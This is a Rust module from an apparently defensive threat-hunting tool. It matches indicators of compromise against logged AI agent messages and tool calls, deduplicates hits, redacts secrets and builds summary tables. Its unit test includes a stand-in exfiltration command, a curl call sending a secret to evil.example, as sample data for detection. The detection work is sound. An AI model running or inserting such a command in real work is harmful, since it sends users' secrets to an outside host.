//! Indicators and where they were found.
//!
//! What was typed becomes one pattern per indicator. Hosts match themselves and the names below them, never a part of a
//! longer name; other exact things match as whole words; text matches anywhere. Defanged forms are understood on both
//! sides, in what was typed and in what was said.

mod indicator;

use std::collections::{BTreeMap, BTreeSet};

use regex::{Regex, RegexSet, RegexSetBuilder};
use serde_json::Value;

use super::list::{Column, List, Narrow};
use super::redact::{Redact as _, Redactor, rows};
use crate::text::rfc3339;

pub use indicator::{Indicator, Kind};

/// Indicators of one hunt.
pub const MAX_INDICATORS: usize = 5_000;

/// Bytes that the compiled patterns of a hunt may take.
const MAX_COMPILED: usize = 200 << 20;

/// Characters around a hit that are shown.
const AROUND: usize = 50;

rows! {
    /// A place where some indicator stands.
    pub struct HitFact {
        /// message, call or definition.
        pub source: String,
        /// Identity of it.
        pub source_id: String,
        /// Who speaks, or which tool.
        pub what: String,
        /// What is done with it, where that is known.
        pub relation: Option<String>,
        /// The text.
        pub content: String,
        /// When, microseconds since the epoch.
        pub time_micros: i64,
        /// Login.
        pub login: String,
        /// Stable node id of the device.
        pub device: String,
        /// Agent.
        pub agent: Option<String>,
        /// Session.
        pub session_id: Option<String>,
        /// Conversation.
        pub conversation_id: Option<String>,
        /// Export.
        pub export_key: String,
        /// Record id.
        pub record_id: Option<i64>,
    }
}

/// All indicators of a hunt, ready to look.
pub struct Hunt {
    indicators: Vec<Indicator>,
    patterns: Vec<String>,
    set: RegexSet,
}

/// What a hunt found.
pub struct Found {
    /// A row per indicator.
    pub summary: List,
    /// A row per hit.
    pub hits: List,
    /// Indicators that were not found.
    pub missing: usize,
    /// Hits that are not in the list.
    pub left_out: usize,
}

impl Hunt {
    /// Compiles the indicators, each once.
    ///
    /// # Errors
    /// When there are none, too many, or they are too large together.
    pub fn new(mut indicators: Vec<Indicator>) -> Result<Self, String> {
        let mut seen = BTreeSet::new();
        indicators.retain(|i| seen.insert((i.kind, i.value.to_lowercase())));
        if indicators.is_empty() {
            return Err("there is no indicator to look for".to_owned());
        }
        if indicators.len() > MAX_INDICATORS {
            return Err(format!("{} indicators are more than the {MAX_INDICATORS} of one hunt", indicators.len()));
        }
        let patterns: Vec<String> = indicators.iter().map(|i| format!("(?i){}", i.pattern())).collect();
        let built = RegexSetBuilder::new(&patterns).size_limit(MAX_COMPILED).dfa_size_limit(64 << 20).build();
        let set = built.map_err(|_| "the indicators are too large together; look for fewer at a time".to_owned())?;
        Ok(Self { indicators, patterns, set })
    }

    /// Patterns that together find whatever one of the indicators finds; each small enough for the query engine.
    #[must_use]
    pub fn prefilters(&self) -> Vec<String> {
        let without_names = |i: &Indicator| i.pattern().replace("?P<hit>", "?:");
        let all: Vec<String> = self.indicators.iter().map(without_names).collect();
        all.chunks(100).map(|some| format!("(?i)(?:{})", some.join("|"))).collect()
    }

    /// Sorts out which indicator stands where. The same place found in several ways counts once.
    #[must_use]
    pub fn sort(&self, facts: Vec<HitFact>, limit: usize, redactor: Redactor<'_>) -> Found {
        let mut places: BTreeMap<(usize, String, String, Option<i64>), HitFact> = BTreeMap::new();
        for fact in facts {
            for at in self.set.matches(&fact.content).iter() {
                let login = if fact.source == "definition" { &fact.login } else { "" };
                let key = (at, format!("{} {}", fact.source, fact.source_id), login.to_owned(), None);
                match places.get_mut(&key) {
                    None => {
                        places.insert(key, fact.clone());
                    }
                    // The longer text says more, the entity knows what is done.
                    Some(held) => {
                        let relation = held.relation.take().or_else(|| fact.relation.clone());
                        if fact.content.len() > held.content.len() {
                            *held = fact.clone();
                        }
                        held.relation = relation;
                    }
                }
            }
        }
        let mut hits: Vec<(usize, HitFact)> = places.into_iter().map(|((at, ..), fact)| (at, fact)).collect();
        hits.sort_by(|(a, x), (b, y)| {
            let key = |f: &HitFact| (f.time_micros, f.export_key.clone(), f.record_id, f.source_id.clone());
            key(x).cmp(&key(y)).then_with(|| a.cmp(b))
        });
        let summary = self.summary(&hits, redactor);
        let missing = self.indicators.len() - hits.iter().map(|(at, _)| at).collect::<BTreeSet<_>>().len();
        let left_out = if limit > 0 { hits.len().saturating_sub(limit) } else { 0 };
        hits.truncate(hits.len() - left_out);
        Found { summary, hits: self.hits(hits, redactor), missing, left_out }
    }

    fn summary(&self, hits: &[(usize, HitFact)], redactor: Redactor<'_>) -> List {
        let column = |name, width, narrow| Column { name, width, narrow };
        let columns = vec![
            column("indicator", 60, Narrow::Least(12)),
            column("kind", 8, Narrow::Whole),
            column("hits", 8, Narrow::Whole),
            column("users", 6, Narrow::Whole),
            column("sessions", 8, Narrow::Whole),
            column("first_seen", 27, Narrow::Whole),
            column("last_seen", 27, Narrow::Whole),
        ];
        let row = |(at, indicator): (usize, &Indicator)| -> Vec<Value> {
            let of = || hits.iter().filter(move |(hit, _)| *hit == at).map(|(_, fact)| fact);
            let users = of().map(|f| &f.login).collect::<BTreeSet<_>>().len();
            let sessions = of().filter_map(|f| f.session_id.as_ref()).collect::<BTreeSet<_>>().len();
            let times = || of().map(|f| f.time_micros);
            vec![
                redactor(&indicator.value).into(),
                indicator.kind.as_str().into(),
                of().count().into(),
                users.into(),
                sessions.into(),
                times().min().map(rfc3339).into(),
                times().max().map(rfc3339).into(),
            ]
        };
        List { columns, rows: self.indicators.iter().enumerate().map(row).collect() }
    }

    fn hits(&self, hits: Vec<(usize, HitFact)>, redactor: Redactor<'_>) -> List {
        let column = |name, width, narrow| Column { name, width, narrow };
        let columns = vec![
            column("indicator", 40, Narrow::Least(8)),
            column("time", 27, Narrow::Whole),
            column("login", 40, Narrow::Least(12)),
            column("device", 0, Narrow::Whole),
            column("agent", 20, Narrow::Leave(2)),
            column("source", 10, Narrow::Leave(3)),
            column("what", 40, Narrow::Least(12)),
            column("relation", 20, Narrow::Leave(4)),
            column("excerpt", 110, Narrow::Least(16)),
            column("session_id", 32, Narrow::Start(8)),
            column("conversation_id", 0, Narrow::Whole),
            column("export_key", 60, Narrow::Leave(5)),
            column("record_id", 12, Narrow::Whole),
        ];
        let mut compiled: BTreeMap<usize, Option<Regex>> = BTreeMap::new();
        let rows = hits.into_iter().map(|(at, mut fact)| {
            fact.redact(redactor);
            let pattern = compiled.entry(at).or_insert_with(|| Regex::new(&self.patterns[at]).ok());
            vec![
                redactor(&self.indicators[at].value).into(),
                rfc3339(fact.time_micros).into(),
                fact.login.into(),
                fact.device.into(),
                fact.agent.into(),
                fact.source.into(),
                fact.what.into(),
                fact.relation.into(),
                excerpt(&fact.content, pattern.as_ref()).into(),
                fact.session_id.into(),
                fact.conversation_id.into(),
                fact.export_key.into(),
                fact.record_id.into(),
            ]
        });
        List { columns, rows: rows.collect() }
    }
}

/// The hit and what stands around it. The text is redacted before it is cut.
fn excerpt(text: &str, pattern: Option<&Regex>) -> String {
    let Some(hit) = pattern.and_then(|p| p.captures(text)).and_then(|c| c.name("hit")) else {
        return "(inside a secret)".to_owned();
    };
    let before: Vec<char> = text[..hit.start()].chars().rev().take(AROUND).collect();
    let after: String = text[hit.end()..].chars().take(AROUND).collect();
    let lead = if before.len() == AROUND { "…" } else { "" };
    let tail = if after.chars().count() == AROUND { "…" } else { "" };
    let words: String = before.into_iter().rev().chain(hit.as_str().chars().take(200)).chain(after.chars()).collect();
    format!("{lead}{}{tail}", words.split_whitespace().collect::<Vec<_>>().join(" "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_place_found_in_several_ways_counts_once_and_knows_what_is_done() {
        let indicator = |text| Indicator::parse(text).unwrap().unwrap();
        let hunt = Hunt::new(vec![indicator("evil.example"), indicator("nowhere.example"), indicator("EVIL.example")])
            .unwrap();
        let fact = |content: &str, relation: Option<&str>| HitFact {
            source: "call".to_owned(),
            source_id: "c".to_owned(),
            content: content.to_owned(),
            relation: relation.map(str::to_owned),
            ..HitFact::default()
        };
        let facts =
            vec![fact("curl https://evil.example/?k=SECRET", None), fact("evil.example", Some("host destination"))];
        let found = hunt.sort(facts, 10, &|t| t.replace("SECRET", "[..]"));
        assert_eq!((found.summary.rows.len(), found.hits.rows.len(), found.missing, found.left_out), (2, 1, 1, 0));
        assert_eq!(found.hits.rows[0][7], "host destination");
        assert_eq!(found.hits.rows[0][8], "curl https://evil.example/?k=[..]");
        for filter in hunt.prefilters() {
            assert!(Regex::new(&filter).unwrap().is_match("curl https://evil.example/"));
        }
        assert!(Hunt::new(Vec::new()).is_err());
    }
}
